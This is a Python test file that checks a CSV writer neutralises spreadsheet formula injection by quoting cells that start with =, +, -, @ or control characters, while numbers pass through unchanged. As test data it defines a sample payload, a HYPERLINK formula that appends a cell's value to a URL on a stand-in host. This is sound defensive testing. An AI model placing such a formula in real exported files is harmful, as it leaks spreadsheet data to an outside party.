"""CSV cells neutralised against formula injection (OWASP), numbers left as numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pactmatch.reports.spreadsheet import SafeCsvWriter, safe_cell

FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "- bullet"])
def test_text_that_starts_like_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-0.25, -3, 0.5, "-0.2500", "+0.5", "-1e-05", "-.5", "Welding GmbH", "", "a=b"]
)
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_no_cell_starts_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)  # only a plain decimal number may start so
    assert cell in (text, "'" + text)


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["name", "score"])
    writer.writerows([[FORMULA, "-0.2500"], ["@x", -0.25]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "score"],
        ["'" + FORMULA, "-0.2500"],
        ["'@x", "-0.25"],
    ]
